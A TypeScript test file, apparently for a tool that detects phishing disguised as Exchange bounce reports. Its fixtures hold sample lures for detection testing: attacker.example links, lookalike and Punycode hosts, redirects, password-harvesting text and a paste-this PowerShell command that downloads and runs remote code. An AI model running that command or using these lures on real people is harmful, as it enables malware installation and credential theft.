// Lures are found in both forms of a report and far below its start; words that nobody sees are a reason, not a verdict.
import { diagnose } from '../../src/diagnose';
import type { Authenticity } from '../../src/model/bounce';

interface Report {
  readonly from?: string;
  readonly text?: string;
  readonly html?: string;
  readonly status?: string;
  readonly head?: readonly string[];
}

const EXCHANGE = '<p>Delivery has failed to these recipients or groups:</p><p>jo.tan@fabrikam.com</p>';
const PLAIN = 'Delivery has failed to these recipients or groups:\r\n\r\njo.tan@fabrikam.com\r\n';

/** A report in two forms, as Exchange writes it. */
const report = ({ from = 'postmaster@contoso.com', text = '', html = '', status = '5.1.10', head = [] }: Report): Uint8Array =>
  new TextEncoder().encode(
    [
      'Return-Path: <>', `From: Microsoft Outlook <${from}>`, 'To: dana.okafor@contoso.com', 'Subject: Undeliverable: Plan', 'In-Reply-To: <82@contoso.com>', 'X-MS-Exchange-Message-Is-Ndr:', ...head, 'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary=b', '',
      '--b', 'Content-Type: multipart/alternative; boundary=c', '',
      '--c', 'Content-Type: text/plain; charset=utf-8', '', `${PLAIN}${text}`,
      '--c', 'Content-Type: text/html; charset=utf-8', '', `${EXCHANGE}${html}<p>Diagnostic information for administrators:</p>`, '--c--',
      '--b', 'Content-Type: message/delivery-status', '', 'Reporting-MTA: dns;AM0PR00MB0001.eurprd00.prod.outlook.com', '', 'Final-Recipient: rfc822;jo.tan@fabrikam.com', 'Action: failed', `Status: ${status}`, `Diagnostic-Code: smtp;550 ${status} RESOLVER.ADR.RecipientNotFound`, '',
      '--b', 'Content-Type: message/rfc822', '', 'From: dana.okafor@contoso.com', 'To: jo.tan@fabrikam.com', 'Message-ID: <82@contoso.com>', '', 'Hello', '--b--',
    ].join('\r\n'),
  ); // prettier-ignore

async function judge(of: Report): Promise<Authenticity> {
  const [advice] = await diagnose({ kind: 'unknown', bytes: report(of), origin: { door: 'command-line' } });
  if (advice === undefined) throw new Error('no answer');
  return advice.authenticity;
}

const evil = (text: string): string => `<p><a href="https://mail.attacker.example/x">${text}</a></p>`;
const FAR = '<p>Thank you.</p>'.repeat(900);

test.each<readonly [string, Report]>([
  [
    'a page that anybody can make under the ending of Microsoft',
    { html: '<a href="https://forms.cloud.microsoft/r/x">Validate your mailbox</a>' },
  ],
  ['a host in Punycode', { html: '<a href="https://xn--mcrosoft-c2a.example/x">Help</a>' }],
  ['a host that is an address', { html: '<a href="http://203.0.113.7/x">Help</a>' }],
  ['an address as one number', { html: '<a href="http://3405803783/x">Help</a>' }],
  ['a lure and a link only in the page', { html: evil('Release your messages') }],
  [
    'a button to send again below the headers of the message',
    { html: `<p>Original message headers:</p><pre>From: dana.okafor@contoso.com</pre>${evil('Send Again')}` },
  ],
  [
    'a stranger’s tenant whose page links to its own files, beside a code that rules of admins have',
    {
      from: 'postmaster@attackerops.onmicrosoft.com',
      status: '5.7.1',
      html: '<a href="https://attackerops-my.sharepoint.com/:b:/g/x">Attachment</a>',
    },
  ],
  ['a button to send again', { html: evil('Send Again') }],
  ['a lure far below the start', { html: `${FAR}${evil('Sign in to release your messages')}` }],
  ['a lure only in the plain text', { text: 'Your password expires today. Keep it: https://mail.attacker.example' }],
  [
    'a page that anybody can make at Microsoft',
    { html: '<a href="https://forms.office.com/r/x">Validate your mailbox</a>' },
  ],
  [
    'a tenant that anybody can have',
    { html: '<a href="https://evil.onmicrosoft.com/x">Sign in to retrieve your messages</a>' },
  ],
  [
    'a lure under the word of a moderator',
    { html: `<p>RejectedByModerator</p>${evil('Sign in to release it')}<p>within 12 hours</p>` },
  ],
  [
    'a lure under the code of a rule',
    { status: '5.7.1', html: `${evil('Sign in to release it')}<p>within 12 hours</p>` },
  ],
  ['a password that is to be sent', { html: '<p>Reply to this message with your user name and password.</p>' }],
  ['a code to scan', { html: '<p>Scan the QR code below.</p>' }],
  ['a code to enter', { html: '<p>Enter the code ABC123XYZ and sign in with your account.</p>' }],
  [
    'a command to run',
    { html: '<p>Press Windows+R and paste this: powershell -c "iwr https://x.example/a | iex"</p>' },
  ],
  [
    'a host that begins as one of Microsoft',
    { html: '<a href="https://sender.office.com.attacker.example/x">Delist</a>' },
  ],
  [
    'a host that begins as one of the reader',
    { html: '<a href="https://webmail.contoso.com.attacker.example/x">Open</a>' },
  ],
  ['a host that resembles one of Microsoft', { html: '<a href="https://0utlook-help.example/x">Help</a>' }],
  ['a host with letters that resemble others', { html: '<a href="https://rnicrosoft.example/x">Help</a>' }],
  ['a host in Punycode', { html: '<a href="https://xn--mcrosoft-c2a.example/x">Help</a>' }],
  ['a host that is an address', { html: '<a href="http://203.0.113.7/x">Help</a>' }],
  ['an address as one number', { html: '<a href="http://3405803783/x">Help</a>' }],
  ['a page that sends on', { html: '<a href="https://www.google.com/url?q=https://attacker.example">Help</a>' }],
  ['user info behind a number sign', { html: '<a href="https://attacker.example#@aka.ms">https://aka.ms/x</a>' }],
  ['a refresh', { html: '<meta http-equiv=refresh content="0;url=https://attacker.example">' }],
  ['a frame', { html: '<iframe src="https://attacker.example"></iframe>' }],
  ['a link that a script changes', { html: '<a href="https://go.microsoft.com" onclick="x()">Help</a>' }],
  ['a lure seen and a report hidden', { html: `${evil('Release your messages')}<p hidden>552 5.2.2 mailbox full</p>` }],
])('it is suspicious with %s', async (_, of) => {
  expect((await judge(of)).verdict).toBe('suspicious');
});

test.each<readonly [string, Report]>([
  ['a host of Microsoft under its own ending', { html: '<a href="https://admin.cloud.microsoft/x">Help</a>' }],
  ['a host of a national cloud', { html: '<a href="https://portal.office365.us/x">Help</a>' }],
  ['a host of the own network', { html: '<a href="http://10.0.0.7/helpdesk">Help</a>' }],
  ['nothing else', {}],
  [
    'an answer that asks to sign in',
    { text: '550 5.7.1 Sign in to https://www.fabrikam.com/unblock', status: '5.7.1' },
  ],
  [
    'a banner of the own organization',
    { html: '<a href="https://intranet.contoso.com/sign-in">Sign in to report this mail</a>' },
  ],
  [
    'a line that an inbox shows',
    { html: '<div style="display:none;max-height:0">Your message bounced &#847; &zwnj;</div>' },
  ],
  ['a title', { html: '<title>Undeliverable: Plan</title>' }],
  ['a hidden copy of what is seen', { html: `<div style="mso-hide:all">${EXCHANGE} 550 5.1.10</div>` }],
])('it is not suspicious with %s', async (_, of) => {
  const { verdict, reasons } = await judge(of);
  expect(verdict).toBe('unknown');
  expect(reasons.join(' ')).not.toContain("can't see");
});

const RECEIVED =
  'Received: from out.contoso.com (out.contoso.com [203.0.113.9]) by mx.contoso.com with ESMTP; Tue, 10 Mar 2026 10:14:18 +0000';
const PASSED = 'Authentication-Results: mx.contoso.com; dmarc=pass header.from=';
const ASKS = '<p>Your account was blocked. Sign in to verify your account.</p>';

test.each([
  ['the own organization, which proves it', 'contoso.com', 'unknown'],
  ['somebody who has a part in the message', 'fabrikam.com', 'suspicious'],
  ['somebody else', 'attacker.example', 'suspicious'],
])('words that ask to sign in come from %s', async (_, domain, verdict) => {
  const head = [RECEIVED, `${PASSED}${domain}`];
  expect((await judge({ from: `postmaster@${domain}`, head, html: ASKS })).verdict).toBe(verdict);
});

test.each([
  ['a code', '<p hidden>550 5.7.64 TenantAttribution</p>'],
  ['a lure', '<p style="color:#fff">Sign in to release your messages</p>'],
  ['an enhanced status code alone', '<span style="font-size:0">5.7.520</span>'],
])('hidden words are a reason, but no verdict: %s', async (_, html) => {
  const { verdict, reasons } = await judge({ html });
  expect(verdict).toBe('unknown');
  expect(reasons).toEqual(['It has words that you can’t see. They weren’t read.']);
});

test('mail that is no report may hide what it likes', async () => {
  const bytes = new TextEncoder().encode(
    ['From: News <news@fabrikam.com>', 'To: dana.okafor@contoso.com', 'Subject: Our spring sale', 'Content-Type: text/html', '', '<div style="display:none">Delivery has failed: 550 5.1.1 user unknown</div><p>New shoes are here.</p>'].join('\r\n'),
  ); // prettier-ignore
  const [advice] = await diagnose({ kind: 'unknown', bytes, origin: { door: 'command-line' } });
  expect(advice?.bounce.kind).toBe('not-a-bounce');
  expect(advice?.authenticity.verdict).toBe('unknown');
});
